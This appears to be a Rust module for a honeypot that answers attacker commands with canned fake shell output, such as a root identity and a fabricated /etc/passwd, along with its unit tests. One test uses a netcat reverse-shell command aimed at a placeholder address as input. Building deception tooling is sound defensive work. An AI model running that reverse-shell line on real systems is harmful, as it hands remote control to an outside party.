use std::collections::HashMap;
use std::sync::LazyLock;

/// Canned shell output, keyed by the lower-cased command line.
static SHELL_RESPONSES: LazyLock<HashMap<&'static str, &'static str>> = LazyLock::new(|| {
    HashMap::from([
        (
            "ls",
            "bin  boot  dev  etc  home  lib  lib64  media  mnt  opt  proc  root  run  sbin  srv  sys  tmp  usr  var",
        ),
        ("pwd", "/home/user"),
        ("whoami", "root"),
        ("id", "uid=0(root) gid=0(root) groups=0(root)"),
        (
            "uname -a",
            "Linux honeypot 5.10.0-23-amd64 #1 SMP Debian 5.10.179-1 (2023-05-12) x86_64 GNU/Linux",
        ),
        (
            "cat /etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nuser:x:1000:1000:User:/home/user:/bin/bash",
        ),
        (
            "ps aux",
            "USER       PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot         1  0.0  0.0 169640  11972 ?        Ss   10:00   0:01 /sbin/init",
        ),
        (
            "ifconfig",
            "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 192.168.1.100  netmask 255.255.255.0",
        ),
        ("wget", "-bash: wget: command not found"),
        ("curl", "-bash: curl: command not found"),
    ])
});

/// Answer the fake shell gives to `command` (already trimmed, non-empty).
///
/// Known commands match case-insensitively and exactly; anything else gets a
/// bash-style "command not found" naming its first word.
pub fn respond(command: &str) -> String {
    match SHELL_RESPONSES.get(command.to_lowercase().as_str()) {
        Some(response) => response.to_string(),
        None => {
            let program = command.split_whitespace().next().unwrap_or(command);
            format!("-bash: {}: command not found", program)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_known_commands() {
        assert_eq!(respond("whoami"), "root");
        assert_eq!(respond("pwd"), "/home/user");
        assert!(respond("ls").starts_with("bin  boot  dev"));
    }

    #[test]
    fn test_lookup_ignores_case_but_not_arguments() {
        assert_eq!(respond("UNAME -A"), respond("uname -a"));
        assert_eq!(respond("ls -la"), "-bash: ls: command not found");
    }

    #[test]
    fn test_unknown_command_names_first_token() {
        assert_eq!(
            respond("nc -e /bin/sh 10.0.0.1 4444"),
            "-bash: nc: command not found"
        );
    }

    #[test]
    fn test_same_command_same_answer() {
        assert_eq!(respond("cat /etc/passwd"), respond("cat /etc/passwd"));
    }
}
